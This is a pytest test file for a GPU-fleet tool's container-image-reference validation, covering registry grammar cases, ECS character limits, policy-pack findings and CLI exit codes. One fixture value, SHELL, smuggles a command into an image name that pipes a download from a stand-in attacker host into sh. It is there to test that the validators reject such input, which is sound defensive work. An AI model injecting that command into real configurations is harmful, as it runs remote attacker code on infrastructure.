"""Container image references: distribution/reference's grammar for every runtime, and ECS's own
characters for RegisterTaskDefinition; both doors (stack file, pack) hold them."""

from __future__ import annotations

import pytest

from gpufleet.catalog.tokens import UNKNOWN
from gpufleet.rules.images import ecs_image_problem, reference_problem
from tests.conftest import ROOT, run_cli
from tests.policy_helpers import findings, resource, task_definition

DIGEST = "sha256:" + "0123456789abcdef" * 4
SHELL = "public.ecr.aws/example/serve:1.0 && curl -s https://evil.example/x | sh"

# (image, pulled by a runtime, taken by ECS) — the grammar's own cases (reference_test.go) and ECS's words.
CASES = [
    ("ubuntu", True, True),
    ("public.ecr.aws/example/serve:1.0", True, True),
    ("nvcr.io/nvidia/pytorch:24.01-py3", True, True),
    ("localhost:5000/foo/bar:tag", True, True),
    ("[2001:db8::1]:5000/repo:tag", True, False),  # ECS names no brackets
    (f"123456789012.dkr.ecr.us-east-1.amazonaws.com/repo@{DIGEST}", True, True),
    (f"repo:tag@{DIGEST}", True, True),
    ("Ghcr.io/org/x:1", True, True),  # upper case is allowed in the domain
    ("ghcr.io/Org/x:1", False, False),  # not in the repository path
    ("Ubuntu", False, False),
    ("repo:" + "t" * 128, True, True),
    ("repo:" + "t" * 129, False, True),  # a tag is at most 128 characters; ECS counts 255 in all
    ("repo:-tag", False, False),
    ("a//b", False, False),
    ("repo#frag", False, False),  # ECS's characters allow #, the grammar does not
    (SHELL, False, False),
    ("", False, False),
    ("registry.example.com/" + "a" * 255, True, False),  # the grammar's 255 counts the path only; ECS's the whole
    ("registry.example.com/" + "a" * 256, False, False),
    # ECS's 255 stop at the digest's @: 255 before it and 71 after are taken, one more before is not.
    ("registry.example.com/" + "a" * 234 + f"@{DIGEST}", True, True),
    ("registry.example.com/" + "a" * 235 + f"@{DIGEST}", True, False),
]


@pytest.mark.parametrize("image, pulled, ecs", CASES, ids=[c[0][:40] for c in CASES])
def test_an_image_is_judged_as_the_runtime_and_ecs_read_it(image, pulled, ecs):
    assert (reference_problem(image) is None) is pulled
    assert (ecs_image_problem(image) is None) is (ecs and pulled)


def test_ecs_names_its_refusal_and_a_runtime_its_own():
    assert "RegisterTaskDefinition refuses it (Container.image contains invalid characters)" in ecs_image_problem(SHELL)
    assert "is not an image reference" in reference_problem(SHELL) and "the runtime never pulls it" in reference_problem(SHELL)


def test_an_image_known_only_after_apply_is_not_judged():
    assert reference_problem(f"{UNKNOWN}:latest") is None and ecs_image_problem(UNKNOWN) is None


def test_the_pack_reads_images_of_ecs_tasks_and_kubernetes_pods(judge):
    pod = {"containers": [{"name": "main", "image": SHELL}], "initContainers": [{"name": "init", "image": "Ubuntu"}]}
    result = judge(
        [
            task_definition("bad", [{"name": "c", "image": SHELL, "memory": 512}]),
            task_definition("good", [{"name": "c", "image": "public.ecr.aws/example/serve:1.0", "memory": 512}]),
            resource("kubernetes:apps/v1:Deployment", "web", {"spec": {"template": {"spec": pod}}}),
        ]
    )
    [ecs] = findings(result, "container-image-reference", "bad")
    assert ecs.endswith("container 'c': " + ecs_image_problem(SHELL))
    assert findings(result, "container-image-reference", "good") == []
    web = sorted(findings(result, "container-image-reference", "web"))
    assert len(web) == 2
    assert web[0].endswith("spec.template.spec: container 'init': " + reference_problem("Ubuntu"))
    assert web[1].endswith("spec.template.spec: container 'main': " + reference_problem(SHELL))
    assert {f.level for f in result.findings if f.policy == "container-image-reference"} == {"mandatory"}


@pytest.mark.parametrize(
    "stack, old, field",
    [
        ("ecs-gpu", "public.ecr.aws/example/embedder:2.0.0", "gpufleet:ecs.workloads[1].containers[0].image"),
        ("gke-l4-timeshare", "us-docker.pkg.dev/ml-platform-prod/serving/llm-serve:1.4", "gpufleet:gke.workloads[0].image"),
    ],
)
def test_a_stack_files_image_that_is_no_reference_is_exit_2_at_its_field(tmp_path, stack, old, field):
    text = (ROOT / "stacks" / f"Pulumi.{stack}.yaml").read_text()
    assert old in text
    (tmp_path / f"Pulumi.{stack}.yaml").write_text(text.replace(old, f'"{SHELL}"', 1))
    code, _, err = run_cli("preview", "--stacks-dir", str(tmp_path), stack)
    assert code == 2 and f"{field} = " in err and "[rule: image-reference]" in err, err
